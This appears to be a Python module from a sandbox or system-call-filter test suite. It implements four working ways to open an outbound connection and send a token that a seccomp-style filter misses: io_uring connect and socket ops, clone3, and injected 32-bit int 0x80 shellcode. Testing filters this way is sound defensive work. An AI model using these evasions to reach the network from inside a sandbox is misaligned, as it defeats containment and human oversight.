"""Past the system calls that a filter looks at."""
from __future__ import annotations

import ctypes
import mmap
import os
import signal
import socket
import struct

from .common import WAIT, Where, called, collected, libc, say
from .streams import plain_ipv4

CONNECT, SOCKET = 16, 45              # IORING_OP_*, linux/io_uring.h


def io_uring_connect(token: bytes, to: Where) -> None:
    """IORING_OP_CONNECT: no connect(2) for a system-call filter to see."""
    with socket.socket() as s:
        _connect(Ring(), s, to)
        say(s, token)


def io_uring_socket(token: bytes, to: Where) -> None:
    """IORING_OP_SOCKET, then IORING_OP_CONNECT: no socket(2) either."""
    ring = Ring()
    fd = ring.submit(SOCKET, socket.AF_INET, 0, 0, socket.SOCK_STREAM)
    with socket.socket(fileno=fd) as s:
        _connect(ring, s, to)
        say(s, token)


def _connect(ring: Ring, s: socket.socket, to: Where) -> None:
    name = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(to.port), socket.inet_aton(to.host4))
    keep = ctypes.create_string_buffer(name, len(name))
    ring.submit(CONNECT, s.fileno(), ctypes.addressof(keep), 0, len(name))
    s.settimeout(WAIT)


class Ring:
    """One submission and one completion at a time."""

    def __init__(self) -> None:
        parameters = bytearray(120)
        raw = (ctypes.c_char * 120).from_buffer(parameters)
        self.fd = called(libc.syscall(425, 4, raw), "io_uring_setup")
        self.done = 0
        # sq_off at 40: head tail ring_mask ring_entries flags dropped array
        # cq_off at 80: head tail ring_mask ring_entries overflow cqes
        self.sq = struct.unpack_from("<7I", parameters, 40)
        self.cq = struct.unpack_from("<6I", parameters, 80)
        size = max(self.sq[6] + 4 * 4, self.cq[5] + 8 * 16)
        self.rings = mmap.mmap(self.fd, size, mmap.MAP_SHARED | mmap.MAP_POPULATE, offset=0)
        self.entries = mmap.mmap(self.fd, 4 * 64, mmap.MAP_SHARED | mmap.MAP_POPULATE, offset=0x10000000)

    def submit(self, operation: int, descriptor: int, address: int, length: int, offset: int) -> int:
        """struct io_uring_sqe; the completion's result.  Raises OSError where it is an error."""
        entry = struct.pack("<BBHiQQIIQ", operation, 0, 0, descriptor, offset, address, length, 0, 1)
        at = self.done % 4
        self.entries[at * 64:at * 64 + 64] = entry + bytes(24)
        struct.pack_into("<I", self.rings, self.sq[6] + 4 * at, at)
        struct.pack_into("<I", self.rings, self.sq[1], self.done + 1)
        called(libc.syscall(426, self.fd, 1, 1, 1, None, 0), "io_uring_enter")     # GETEVENTS
        result = int(struct.unpack_from("<Qi", self.rings, self.cq[5] + 16 * (self.done % 8))[1])
        self.done += 1
        struct.pack_into("<I", self.rings, self.cq[0], self.done)
        if result < 0:
            raise OSError(-result, os.strerror(-result))
        return result


def clone3(token: bytes, to: Where) -> None:
    """A child made by clone3(2), whose flags lie in memory that a filter cannot read."""
    arguments = struct.pack("=QQQQQQQQ", 0, 0, 0, 0, int(signal.SIGCHLD), 0, 0, 0)
    pid = called(libc.syscall(435, ctypes.c_char_p(arguments), len(arguments)), "clone3")
    if pid == 0:
        try:
            plain_ipv4(token, to)
            os._exit(0)
        finally:
            os._exit(1)
    if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]):
        raise OSError("the child did not get through")


def socketcall_32(token: bytes, to: Where) -> None:
    """int 0x80 socketcall from a 64-bit program: a filter that checks only x86_64 numbers misses it."""
    # mov eax,102; mov ebx,1 (SYS_SOCKET); mov ecx,ARGS; int 0x80; ret -- arguments below 4 GiB
    low = _low_memory()
    struct.pack_into("<III", (ctypes.c_char * 64).from_address(low), 0, socket.AF_INET, socket.SOCK_STREAM, 0)
    code = b"\x53\xb8\x66\0\0\0\xbb\x01\0\0\0\xb9" + struct.pack("<I", low) + b"\xcd\x80\x5b\x48\x98\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    made = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    if made < 0:
        raise OSError(-made, os.strerror(-made))
    with socket.socket(fileno=made) as s:
        s.settimeout(WAIT)
        s.connect((to.host4, to.port))
        say(s, token)


def _low_memory() -> int:
    libc.mmap.restype = ctypes.c_void_p
    got = libc.mmap(None, ctypes.c_size_t(4096), 3, 0x62, -1, ctypes.c_long(0))     # MAP_PRIVATE|ANONYMOUS|32BIT
    if got is None or got >= 1 << 32:
        raise OSError("no memory below 4 GiB")
    return int(got)


TECHNIQUES = collected(io_uring_connect, io_uring_socket, clone3, socketcall_32)
